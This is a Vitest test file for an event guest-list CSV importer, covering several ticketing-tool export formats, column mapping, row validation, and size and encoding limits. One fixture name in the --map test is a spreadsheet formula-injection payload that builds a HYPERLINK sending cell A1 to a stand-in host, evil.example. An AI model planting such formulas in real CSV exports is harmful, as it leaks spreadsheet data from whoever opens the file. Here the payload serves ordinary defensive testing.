import fs from 'node:fs'
import path from 'node:path'
import { describe, expect, test } from 'vitest'
import { parseGuestList, type GuestList } from '../../src/attendees/parseGuestList.js'
import { detectDelimiter, MAX_CSV_BYTES, MAX_ROWS, readCsv } from '../../src/attendees/readCsv.js'
import { readCsvStream } from '../../src/attendees/readCsvStream.js'
import { BaseError } from '../../src/errors.js'
import { thrown } from '../helpers/thrown.js'

const fixtures = path.join(import.meta.dirname, '../fixtures/attendees')
const fixture = (name: string) => fs.readFileSync(path.join(fixtures, name))

const brief = (list: GuestList) => list.entries.map((e) => [e.line, e.name, e.ticketCode, e.ticketType, e.email])

/** The error a parse throws, as the API reports it. */
function failure(fn: () => unknown) {
  const error = thrown(fn)
  if (!(error instanceof BaseError)) throw error
  return { status: error.statusCode, code: error.code, message: error.message, errors: error.errors }
}

describe('the five tools, detected by their header row alone', () => {
  test('pretix check-in list: the QR secret is the ticket code; special attention and comment carried', () => {
    const list = parseGuestList(fixture('pretix-checkin.csv'))
    expect(list.format).toBe('pretix-checkin')
    expect(brief(list)).toEqual([
      [2, 'Zoë Müller', 'u8m2kq4x7ts9hbnw3cyv6ea5rdpf2jgz', 'Conference Ticket', 'zoe.mueller@example.org'],
      [3, 'Sam Taylor', 'p3rw9nq2c7xk5hd8mzt4yvb6aegs2fju', 'Workshop – Rust for Beginners', 'sam.taylor@example.com'],
      [4, 'Priya Natarajan', 'x6kd2mp8qv4hn9wc3tr7bza5eyfsg2ju', 'Conference Ticket', 'priya.n@example.net'],
    ])
    expect(list.entries[2]).toMatchObject({ needsAttention: true, note: 'Needs wheelchair access' })
    expect(list.entries[0]).toMatchObject({ needsAttention: false, note: null })
    expect(parseGuestList(fixture('tito.csv')).entries[0]!.needsAttention).toBeNull()
  })

  test('pretix check-in list without the secret column: order code, and order code-n for an order of several tickets', () => {
    const list = parseGuestList(fixture('pretix-checkin-nosecret.csv'))
    expect(list.format).toBe('pretix-checkin')
    // pretix's defusedcsv wrote '-Ann: the quote is pretix's, not the guest's. The quoted line break starts on line 4.
    expect(brief(list)).toEqual([
      [2, 'Zoë Müller', 'Q7PFR', 'Conference Ticket', 'zoe.mueller@example.org'],
      [3, 'Sam Taylor', 'KX3LN-1', 'Workshop – Rust for Beginners', 'sam.taylor@example.com'],
      [4, '-Ann Lee', 'KX3LN-2', 'Workshop – Rust for Beginners', 'sam.taylor@example.com'],
    ])
    expect(list.entries[2]).toMatchObject({ needsAttention: true, note: 'Bring the\r\nsecond badge' })
  })

  test('pretix order positions: ticket secret, product and variation; a cancelled order skipped', () => {
    const list = parseGuestList(fixture('pretix-positions.csv'))
    expect(list.format).toBe('pretix-positions')
    expect(brief(list)).toEqual([
      [2, 'Zoë Müller', 'u8m2kq4x7ts9hbnw3cyv6ea5rdpf2jgz', 'Conference Ticket – Early bird', 'zoe.mueller@example.org'],
      // No attendee email: the buyer's.
      [3, 'Jonas Weber', 'p3rw9nq2c7xk5hd8mzt4yvb6aegs2fju', 'Conference Ticket', 'buyer@example.org'],
    ])
    expect(list.skipped).toEqual([{ line: 4, ticketCode: 'x6kd2mp8qv4hn9wc3tr7bza5eyfsg2ju', reason: 'order canceled' }])
  })

  test('Eventbrite: first + last name; the barcode is order number, attendee number and 001', () => {
    const list = parseGuestList(fixture('eventbrite.csv'))
    expect(list.format).toBe('eventbrite')
    expect(brief(list)).toEqual([
      [2, 'José Núñez', '1121191224318441583423001', 'General Admission', 'jose.nunez@example.com'],
      [3, 'Jane Doe', '1121198721318441700883001', 'VIP', 'jane.doe@example.com'],
      [4, 'Joe Bloggs', '1121198721318441700884001', 'VIP', 'jbloggs@example.com'],
    ])
  })

  test("Luma (BOM, CRLF): the ticket key of qr_code_url; only approved guests", () => {
    const list = parseGuestList(fixture('luma.csv'))
    expect(list.format).toBe('luma')
    expect(brief(list)).toEqual([
      [2, 'Åsa Lindqvist', 'k7Qx2pLm', 'General Admission', 'asa.lindqvist@example.se'],
      [3, 'Lovelace, Ada', 'Zt8wQ1nc', 'Supporter', 'ada@example.com'],
    ])
    expect(list.skipped).toEqual([{ line: 4, ticketCode: 'b3Yc9rTe', reason: 'approval status waitlist' }])
  })

  test('Hi.Events saved as CSV with commas, and with semicolons (BOM, CRLF): the Public ID; a cancelled ticket skipped', () => {
    for (const file of ['hievents.csv', 'hievents-semicolon.csv']) {
      const list = parseGuestList(fixture(file))
      expect(list.format).toBe('hievents')
      expect(brief(list)).toEqual([
        [2, 'Chloé Dubois', 'A-7KQ2M9X', 'General Admission', 'chloe.dubois@example.fr'],
        [3, 'Tom Baker', 'A-P4ZT8WN', 'VIP - Early Bird', 'tom.baker@example.com'],
      ])
      expect(list.entries[1]!.note).toMatch(/^Sponsor[,;] please seat front row$/)
      expect(list.skipped).toEqual([{ line: 4, ticketCode: 'A-R2VY6HD', reason: 'cancelled' }])
    }
  })

  test('Tito: Ticket Full Name and Ticket Reference', () => {
    const list = parseGuestList(fixture('tito.csv'))
    expect(list.format).toBe('tito')
    expect(brief(list)).toEqual([
      [2, 'Björn Åkesson', 'GIAO-1', 'Standard Ticket', 'bjorn@example.se'],
      [3, 'Lena Fischer', 'GIAO-2', 'Standard Ticket', 'lena@example.de'],
      [4, 'Dan Brown', 'KX7Q', 'Speaker', 'dan@example.com'],
    ])
  })
})

describe('--map', () => {
  const map = 'name=Guest,email=Mail,ticket=Barcode,type=Pass,chip=Wristband,wallet=Wallet'

  test('reads the columns it names; chip UID and wallet in canonical form; no type is General', () => {
    const list = parseGuestList(fixture('custom.csv'), { map })
    expect(list.format).toBe('map')
    expect(list.entries.map((e) => [e.name, e.ticketCode, e.ticketType, e.email, e.chipUid, e.wallet])).toEqual([
      ['Ada Lovelace', 'BC-0001', 'VIP', 'ada@example.com', '04A1B2C3D4E5F6', '0x5FbDB2315678afecb367f032d93F642f64180aa3'],
      ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', 'BC-0002', 'GA', 'mallory@example.com', null, null],
      ['Grace Hopper', 'BC-0003', 'General', null, null, null],
    ])
  })

  test('an unknown column is an error naming it, and the columns the file has', () => {
    expect(failure(() => parseGuestList(fixture('custom.csv'), { map: 'name=Guest,ticket=Ticket Code' }))).toMatchInlineSnapshot(`
      {
        "code": "csv_map_unknown_column",
        "errors": {
          "columns": "The file's columns: "Guest", "Mail", "Barcode", "Pass", "Wristband", "Wallet"",
          "map.ticket": "No column "Ticket Code" in the file",
        },
        "message": "--map names a column the file does not have: "Ticket Code"",
        "status": 400,
      }
    `)
  })

  test('an unknown field, and a map without a ticket column', () => {
    expect(failure(() => parseGuestList(fixture('custom.csv'), { map: 'name=Guest,ticket=Barcode,phone=Tel' })).code).toBe('csv_map_invalid')
    expect(failure(() => parseGuestList(fixture('custom.csv'), { map: 'name=Guest' })).message).toBe('--map needs ticket=<column>')
  })

  test('column names match ignoring case and surrounding spaces', () => {
    expect(parseGuestList(fixture('custom.csv'), { map: 'name= guest ,ticket=BARCODE' }).entries).toHaveLength(3)
  })
})

describe('bad rows: the line and column named, nothing kept', () => {
  test('a duplicate ticket code names both lines', () => {
    const csv = 'Guest,Barcode\nAda,A1\nBob,B2\nCy,A1\n'
    expect(failure(() => parseGuestList(csv, { map: 'name=Guest,ticket=Barcode' }))).toMatchInlineSnapshot(`
      {
        "code": "csv_rows_invalid",
        "errors": {
          "line 4, Barcode": "Ticket code "A1" is on line 2 too: each ticket once",
        },
        "message": "1 problem in the --map file; nothing was imported",
        "status": 400,
      }
    `)
  })

  test('every bad cell is listed: empty name, bad email, bad chip, bad wallet, a line after a quoted line break', () => {
    const csv = 'Guest,Mail,Barcode,Chip,Wallet\n"Ada\nLovelace",ada@,A1,,\n,x@y.z,A2,04ZZ,0x12\n'
    const { errors } = failure(() => parseGuestList(csv, { map: 'name=Guest,email=Mail,ticket=Barcode,chip=Chip,wallet=Wallet' }))
    expect(errors).toEqual({
      'line 2, Mail': '"ada@" is not an email address',
      'line 4, Guest': 'The name is empty',
      'line 4, Chip': '"04ZZ" is not a chip UID (14 hex digits, ":" allowed, or its decimal form of 15-17 digits)',
      'line 4, Wallet': '"0x12" is not a wallet address (0x and 40 hex digits)',
    })
  })

  test('issue 26: a chip column in the decimal form (as hosted-API exports write it) is stored in hex; a decimal over 7 bytes is refused', () => {
    const csv = 'Guest,Barcode,Chip\nAda,A1,1311252620644752\nGrace,A2,04:a8:93:ca:aa:11:91\n'
    const list = parseGuestList(csv, { map: 'name=Guest,ticket=Barcode,chip=Chip' })
    expect(list.entries.map((e) => e.chipUid)).toEqual(['04A893CAAA1190', '04A893CAAA1191'])
    const { errors } = failure(() => parseGuestList('Guest,Barcode,Chip\nAda,A1,72057594037927936\n', { map: 'name=Guest,ticket=Barcode,chip=Chip' }))
    expect(errors).toEqual({ 'line 2, Chip': '"72057594037927936" is not a chip UID (14 hex digits, ":" allowed, or its decimal form of 15-17 digits)' })
  })

  test('a chip on two rows names both lines', () => {
    const csv = 'Guest,Barcode,Chip\nAda,A1,04A1B2C3D4E5F6\nBob,B2,04:a1:b2:c3:d4:e5:f6\n'
    expect(failure(() => parseGuestList(csv, { map: 'name=Guest,ticket=Barcode,chip=Chip' })).errors).toEqual({
      'line 3, Chip': 'Chip 04A1B2C3D4E5F6 is on line 2 too: a chip belongs to one guest',
    })
  })

  test('an empty ticket code in a tool export names the tool column', () => {
    const csv = fs.readFileSync(path.join(fixtures, 'tito.csv'), 'utf8').replace('GIAO-2', '')
    expect(failure(() => parseGuestList(csv)).errors).toEqual({ 'line 3, Ticket Reference': 'The ticket code is empty' })
  })

  test('a row with more cells than the header', () => {
    expect(failure(() => parseGuestList('Guest,Barcode\nAda,A1,extra\n', { map: 'name=Guest,ticket=Barcode' }))).toMatchObject({
      code: 'csv_unreadable',
      errors: { 'line 2': '3 fields where the header has 2' },
    })
  })

  test('an unknown header without --map says so and shows it', () => {
    expect(failure(() => parseGuestList('Guest,Barcode\nAda,A1\n'))).toMatchObject({ code: 'csv_format_unknown', errors: { header: '"Guest", "Barcode"' } })
  })

  test('a header and no guest', () => {
    expect(failure(() => parseGuestList('Guest,Barcode\n', { map: 'name=Guest,ticket=Barcode' })).code).toBe('csv_no_rows')
    expect(failure(() => parseGuestList('')).code).toBe('csv_unreadable')
  })
})

describe('garbage and size', () => {
  test('10 MB of random bytes: not UTF-8, a clear error at once', () => {
    const bytes = new Uint8Array(10 * 1024 * 1024)
    for (let i = 0; i < bytes.length; i += 65536) crypto.getRandomValues(bytes.subarray(i, i + 65536))
    const started = performance.now()
    expect(failure(() => parseGuestList(bytes))).toMatchObject({ status: 400, code: 'csv_unreadable', message: expect.stringContaining('not UTF-8') })
    expect(performance.now() - started).toBeLessThan(2000)
  })

  test('10 MB of printable garbage with quotes and delimiters: an error naming a line, within seconds', () => {
    const alphabet = 'ab,;"\n x'
    const random = new Uint8Array(10 * 1024 * 1024)
    for (let i = 0; i < random.length; i += 65536) crypto.getRandomValues(random.subarray(i, i + 65536))
    const text = Array.from(random, (b) => alphabet[b % alphabet.length]).join('')
    const started = performance.now()
    const error = failure(() => parseGuestList(text))
    expect(error.status).toBe(400)
    expect(['csv_unreadable', 'csv_format_unknown']).toContain(error.code)
    expect(performance.now() - started).toBeLessThan(10_000)
  })

  test('one 10 MB line: the record bound stops it', () => {
    expect(failure(() => parseGuestList('x'.repeat(10 * 1024 * 1024)))).toMatchObject({
      status: 413,
      code: 'csv_row_too_large',
      message: 'Line 1: a row longer than 64 KB; nothing was imported',
    })
  })

  test('a file of text with NUL bytes is not text', () => {
    expect(failure(() => parseGuestList(Buffer.from('Guest,Barcode\nA\0da,A1\n'))).message).toBe('The file is not text: it holds a NUL byte (line 2)')
  })

  test('over 50 MB: 413 csv_too_large, before it is decoded', () => {
    expect(failure(() => readCsv(new Uint8Array(MAX_CSV_BYTES + 1)))).toMatchObject({ status: 413, code: 'csv_too_large' })
  })
})

test('the delimiter is the header line\'s: commas in quoted cells do not count', () => {
  expect(detectDelimiter('"a,b,c";d;e\n1,2,3')).toBe(';')
  expect(detectDelimiter('a,b;c,d\n')).toBe(',')
  expect(detectDelimiter('a\tb\tc\n')).toBe('\t')
  expect(detectDelimiter('name\n')).toBe(',')
})

test('a line break inside quotes, CRLF or LF, moves the next rows one line down each (as an editor counts)', () => {
  const csv = 'Guest,Barcode\r\n"Ada\r\nLovelace",A1\r\n\r\nBob,A1\r\n'
  expect(failure(() => parseGuestList(csv, { map: 'name=Guest,ticket=Barcode' })).errors).toEqual({
    'line 5, Barcode': 'Ticket code "A1" is on line 2 too: each ticket once',
  })
})

describe('readCsvStream: the same reading as readCsv, a piece at a time (issue 24)', () => {
  const pieces = async function* (text: string, size: number) {
    const bytes = Buffer.from(text)
    for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size)
  }
  const all = async (text: string, size: number) => {
    const csv = await readCsvStream(pieces(text, size))
    const rows = []
    for await (const row of csv.rows) rows.push(row)
    return { header: csv.header, delimiter: csv.delimiter, rows }
  }

  test('lines as an editor counts them (CRLF, LF, CR, quoted line breaks, empty lines, a BOM), whatever the pieces', async () => {
    const text = '\ufeffGuest;Barcode\r\n\r\n"Ada\r\nLovelace";A1\r\nBob;B2\r\n\r\n\r\n"Cy\r\n\r\nZ";C3\r\nDee;D4'
    const expected = readCsv(text)
    for (const size of [1, 2, 3, 7, 64, 1 << 16]) expect(await all(text, size)).toEqual(expected)
    const lf = 'Guest,Barcode\n"A\nB",1\n\nC,2\n'
    for (const size of [1, 5, 1 << 16]) expect(await all(lf, size)).toEqual(readCsv(lf))
  })

  test('one row more than 2,000,000: 413 csv_too_many_rows naming its line', async () => {
    const text = `a,b\n${'x,1\n'.repeat(MAX_ROWS + 1)}`
    expect(await all(text, 1 << 16).then(() => null, (e: unknown) => e)).toMatchObject({
      statusCode: 413,
      code: 'csv_too_many_rows',
      message: `Line ${MAX_ROWS + 2}: more than 2,000,000 guests; split the list; nothing was imported`,
    })
  })

  test('Windows-1252, not UTF-8 nor 1252, a NUL, over 50 MB: the errors readCsv gives', async () => {
    expect(await all('Guest,Barcode\nAda,A1\n', 3)).toMatchObject({ rows: [{ line: 2, cells: ['Ada', 'A1'] }] })
    // Not UTF-8 from its first non-ASCII byte: Windows-1252 (issue 25), where 0xC3 is Ã.
    const cp1252 = Buffer.concat([Buffer.from('Guest,Barcode\nAda,'), Buffer.from([0xc3, 0x28]), Buffer.from('\n')])
    const read1252 = await readCsvStream((async function* () { yield cp1252 })())
    const rows1252 = []
    for await (const row of read1252.rows) rows1252.push(row.cells)
    expect([rows1252, read1252.encoding()]).toEqual([[['Ada', 'Ã(']], 'windows-1252'])
    // Valid UTF-8 first (é), a byte that is not later: neither encoding, refused.
    const bad = Buffer.concat([Buffer.from('Guest,Barcode\nRené,A1\nAda,'), Buffer.from([0xc3, 0x28]), Buffer.from('\n')])
    expect(await readCsvStream((async function* () { yield bad })()).then(async (csv) => { for await (const _ of csv.rows); }, (e: unknown) => e)).toMatchObject({ code: 'csv_unreadable' })
    expect(await all('Guest,Barcode\nA\0da,A1\n', 2).catch((e: unknown) => e)).toMatchObject({ message: 'The file is not text: it holds a NUL byte (line 2)' })
    const big = (async function* () {
      yield Buffer.from('a,b\n')
      // Rows of 32 bytes: 50 MiB is 1.6 million of them, under the row bound.
      const mib = Buffer.from(`${'x'.repeat(29)},1\n`.repeat(32 * 1024))
      for (let i = 0; i < 51; i++) yield mib
    })()
    const csv = await readCsvStream(big)
    let read = 0
    const error = await (async () => {
      for await (const _ of csv.rows) read++
    })().catch((e: unknown) => e)
    expect(error).toMatchObject({ statusCode: 413, code: 'csv_too_large', message: 'The file is larger than 50 MB, the most a guest list may be; nothing was imported' })
    // Stopped at the bound, not after reading the rest.
    expect(read).toBeLessThanOrEqual(50 * 32 * 1024)
    // 1.6 million rows read: ~10 s alone, over 30 s once on a CI machine busy with other work.
  }, 120_000)
})
